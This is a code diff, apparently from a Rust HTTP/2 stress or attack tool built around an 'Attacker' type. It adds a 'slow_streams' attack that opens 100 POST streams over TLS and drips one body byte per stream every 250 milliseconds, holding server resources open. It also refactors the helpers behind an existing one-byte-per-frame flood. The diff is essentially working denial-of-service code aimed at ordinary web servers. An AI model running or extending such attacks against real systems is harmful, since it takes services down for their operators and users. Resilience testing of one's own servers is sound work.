@@ -53,15 +53,43 @@ impl Attacker {
 
     /// Sends a body of one byte per frame.
     pub(super) async fn tiny_frames(&self, stream: TlsStream<TcpStream>) -> io::Result<()> {
+        let begin = [preface(65_535), self.post(1)].concat();
+        let more = frame(DATA, 0, 1, b"x").repeat(AT_ONCE);
+        self.repeat(stream, begin, more).await
+    }
+
+    /// Begins requests on all streams, and sends a byte of one body after the other.
+    pub(super) async fn slow_streams(&self, stream: TlsStream<TcpStream>) -> io::Result<()> {
+        let (mut from, mut to) = split(stream);
+        let numbers = || (0..STREAMS).map(|number| 2 * number + 1);
+        let begin: Vec<_> = numbers()
+            .flat_map(|number| [self.post(number), byte(number)].concat())
+            .collect();
+        let writing = async {
+            to.write_all(&preface(65_535)).await?;
+            self.write(&mut to, &begin, u64::from(STREAMS)).await?;
+            for number in numbers().cycle() {
+                sleep(DRIP).await;
+                self.write(&mut to, &byte(number), 1).await?;
+            }
+            Ok(())
+        };
+        let mut nowhere = sink();
+        tokio::select! {
+            ended = writing => ended,
+            ended = io::copy(&mut from, &mut nowhere) => ended.map(drop),
+        }
+    }
+
+    /// Makes the head of a POST.
+    fn post(&self, stream: u32) -> Vec<u8> {
         let fields = [
             (":method", "POST"),
             (":scheme", "https"),
             (":authority", &self.target.host),
             (":path", &self.target.path),
         ];
-        let begin = [preface(65_535), headers(1, 0, &block(&fields))].concat();
-        let more = frame(DATA, 0, 1, b"x").repeat(AT_ONCE);
-        self.repeat(stream, begin, more).await
+        headers(stream, 0, &block(&fields))
     }
 
     /// Writes until the server ends the connection, and reads what comes.
@@ -179,6 +207,11 @@ impl Attacker {
     }
 }
 
+/// Makes a byte of a body.
+fn byte(stream: u32) -> Vec<u8> {
+    frame(DATA, 0, stream, b"x")
+}
+
 fn reset(stream: u32) -> Vec<u8> {
     frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])
 }
@@ -192,3 +225,5 @@ pub(super) const STREAMS: u32 = 100;
 const HUGE: usize = 1 << 20;
 /// Pause between two PINGs of a connection.
 const PING_PAUSE: Duration = Duration::from_millis(300);
+/// Between two bytes: one on each stream in 25 s.
+const DRIP: Duration = Duration::from_millis(250);
